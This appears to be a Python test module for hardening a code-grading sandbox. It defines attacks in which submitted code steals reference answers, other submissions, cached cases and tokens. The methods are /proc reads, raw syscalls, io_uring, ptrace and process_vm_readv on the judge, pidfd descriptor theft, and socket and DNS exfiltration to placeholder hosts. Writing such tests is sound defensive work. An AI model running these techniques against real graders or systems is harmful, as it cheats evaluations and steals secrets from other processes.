"""Attacks that look for the answers: in files, in memory, in other processes, and that carry them out of the worker.

Each uses what it finds to answer rightly, so that success would be a point gained, or puts it into its message.
"""

from __future__ import annotations

from hostile.record import CRASHED, FAILED, RAISED, TIMED_OUT, Attack, statuses

ANSWER = '''
def solved(text, p):
    """The answer by a stolen solution."""
    import math, statistics
    space = {"math": math, "fmean": statistics.fmean}
    exec(text[text.index("def entropy"):], space)
    return space["entropy"](p)

class Told(BaseException):
    """Carries out what was found, in the report; no thief catches it."""

def told(found):
    raise Told("@SECRET@ " + str(found)[:400])
'''
"""What thieves share. The victim's files hold a right `entropy` that needs nothing, and the word @SECRET@."""

NONE = statuses(FAILED, RAISED, CRASHED, TIMED_OUT)


def thief(name: str, story: str, body: str) -> Attack:
    """An attack that answers by what it steals, and 0.25 where it finds nothing."""
    guarded = "try:\n" + "\n".join(f"    {line}" for line in body.strip("\n").splitlines())
    return Attack(
        f"stealing.{name}",
        story,
        before=ANSWER,
        entropy=f"{guarded}\nexcept Exception as error:\n    pass\nreturn 0.25",
        statuses=NONE,
    )


READERS = {
    "open": "open('@OTHER@').read()",
    "os_open": "__import__('os').read(__import__('os').open('@OTHER@', 0), 10**5).decode()",
    "linecache": "''.join(__import__('linecache').getlines('@OTHER@'))",
    "numpy": "bytes(__import__('numpy').fromfile('@OTHER@', dtype='u1')).decode()",
    "mmap": "__import__('mmap').mmap(__import__('os').open('@OTHER@', 0), 0, access=1)[:].decode()",
    "root_of_process": "open('/proc/self/root@OTHER@').read()",
    "root_of_init": "open('/proc/1/root@OTHER@').read()",
    "folder_of_judge": "open('/proc/@JUDGE@/cwd/../../../../../../..@OTHER@').read()",
    "loader": "__import__('importlib.machinery').machinery.SourceFileLoader('x', '@OTHER@').get_data('@OTHER@').decode()",
}
"""Ways to read a file that anybody may read."""

BY_LIBC = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.fopen.restype = ctypes.c_void_p
buffer = ctypes.create_string_buffer(10**5)
file = libc.fopen(b"@OTHER@", b"r")
if file:
    libc.fread(buffer, 1, 10**5, ctypes.c_void_p(file))
    return solved(buffer.value.decode(), p)
for number in (2, 257, 437):  # open, openat, openat2
    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    arguments = {2: (b"@OTHER@", 0), 257: (-100, b"@OTHER@", 0), 437: (-100, b"@OTHER@", how, 24)}[number]
    descriptor = libc.syscall(number, *arguments)
    if descriptor >= 0:
        libc.read(descriptor, buffer, 10**5)
        return solved(buffer.value.decode(), p)
"""

BY_IO_URING = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
parameters = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 8, parameters)
if ring >= 0:
    told("a ring that opens files in the kernel's name,")
"""

JUDGES_MEMORY = """
import re
for pid in ("@JUDGE@", str(__import__("os").getppid())):
    for line in open(f"/proc/{pid}/maps"):
        if "[heap]" in line or "rw-p 00000000 00:00" in line:
            low, high = (int(x, 16) for x in line.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(low)
                told("judge's memory " + repr(memory.read(min(high - low, 10**6)))[:100])
"""

PTRACE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (@JUDGE@, os.getppid()):
    if libc.ptrace(16, pid, 0, 0) == 0 or libc.ptrace(0x4206, pid, 0, 0) == 0:  # ATTACH, SEIZE
        libc.ptrace(17, pid, 0, 0)
        told("attached")
    byte = ctypes.create_string_buffer(8)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(byte), 8)
    there = (ctypes.c_size_t * 2)(id(None), 8)
    for call in (libc.process_vm_readv, libc.process_vm_writev):
        if call(pid, here, 1, there, 1, 0) > 0:
            told("read and wrote its memory")
"""

PIDFD = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
handle = libc.syscall(434, @JUDGE@, 0)
for descriptor in range(3, 64):
    if handle >= 0 and libc.syscall(438, handle, descriptor, 0) >= 0:
        told("took a descriptor of the judge's")
"""

DESCRIPTORS = """
import os
for descriptor in [0, 1, 2, *range(5, 256)]:
    for read in (lambda d: os.pread(d, 10**5, 0), lambda d: os.listdir(d)):
        try:
            found = read(descriptor)
        except OSError:
            continue
        if found and b"entropy" in bytes(str(found), "utf-8"):
            told(f"descriptor {descriptor}: {found}")
"""

NETWORK = """
import ctypes, socket
carried = 0
for family, kind, address in [
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT@)),
    (socket.AF_UNIX, socket.SOCK_STREAM, "@SOCKET@"),
    (socket.AF_UNIX, socket.SOCK_DGRAM, "\\0@MARK@"),
    (socket.AF_NETLINK, socket.SOCK_RAW, (0, 0)),
    (40, socket.SOCK_STREAM, (2, 1)),
]:
    try:
        line = socket.socket(family, kind)
        line.settimeout(0.1)
        line.connect(address)
        line.send(repr(p).encode())
        carried += 1
    except (OSError, TypeError):
        pass
try:
    socket.getaddrinfo("example.org", 80)
    carried += 1
except OSError:
    pass
listening = ctypes.CDLL(None).syscall(41, 2, 1, 0)  # socket(2) itself
if carried or listening >= 0:
    told(f"carried {carried} times, {listening}")
"""

ATTACKS = [
    *(
        thief(f"a_neighbours_file_by_{name}", f"Reads another student's right submission by {name}.", body)
        for name, body in {name: f"return solved({code}, p)" for name, code in READERS.items()}.items()
    ),
    thief("a_neighbours_file_by_libc", "Reads it by fopen, open, openat and openat2, past Python.", BY_LIBC),
    thief("a_file_by_io_uring", "Reads it through a ring, whose calls no filter of calls sees.", BY_IO_URING),
    thief(
        "the_reference",
        "Reads the model answer beside the checks and runs it.",
        "return solved(open('@REFERENCE@').read(), p)",
    ),
    thief(
        "the_installed_checks",
        "Imports the oracles and the model answer from wherever they are installed.",
        """
import sys
sys.modules.pop("checks", None)
sys.path[:0] = ["@ROOT@", "@ROOT@/reference", "@SITE@"]
try:
    from checks.oracles.information import entropy
    return entropy(p)
except ImportError:
    sys.modules.pop("loss", None)
    sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "SourceFinder"]
    import loss
    return loss.entropy(p)
""",
    ),
    thief(
        "the_case_sets",
        "Reads the stored cases, to know all questions to come.",
        "import os\ntold([os.listdir('@CACHE@')])",
    ),
    thief(
        "a_home_folder",
        "Reads keys and settings in the home folder.",
        "import os\ntold([os.listdir('@HOME@')])",
    ),
    thief(
        "names_of_files",
        "Lists the folders of the grader and the system, which tells what there is.",
        "import os\ntold([os.listdir(path) for path in ('/', '/tmp', '/proc', '@ROOT@')])",
    ),
    thief(
        "the_environment",
        "Looks for tokens and file names in the environment, the arguments and the memory of its own process.",
        """
import gc, os, sys
found = [*os.environ.values(), *sys.argv, *sys.orig_argv]
found += [text for text in gc.get_objects() if isinstance(text, str)]
if any("TOKEN" in word or "@HOME@/" in word or "@OTHER@" == word for word in found):
    told("a token")
""",
    ),
    thief(
        "proc_of_the_judge",
        "Reads the judge's environment, command line, descriptors and maps in /proc.",
        "told([open(f'/proc/@JUDGE@/{name}').read() for name in ('environ', 'cmdline', 'maps', 'status')])",
    ),
    thief(
        "proc_of_itself",
        "Reads in /proc/self where the judge's files are.",
        "told([open('/proc/self/mountinfo').read(), open('/proc/self/environ').read()])",
    ),
    thief("the_judges_memory", "Reads the memory of the judge and of the warm parent in /proc.", JUDGES_MEMORY),
    thief("by_ptrace", "Attaches to the judge, reads and writes its memory.", PTRACE),
    thief("by_pidfd", "Takes descriptors out of the judge's process.", PIDFD),
    thief("inherited_descriptors", "Reads whatever descriptors it has inherited.", DESCRIPTORS),
    thief("by_network", "Carries the questions out by TCP, UDP, sockets in files and names, and DNS.", NETWORK),
    Attack(
        "stealing.memory_of_earlier_cases",
        "Keeps what it was asked, to answer by rote when a question comes again; what is right it is never told.",
        before="asked = []",
        entropy="""
            asked.append(list(p))
            raise RuntimeError(f"asked before: {asked}")
        """,
        statuses=statuses(RAISED),
    ),
]
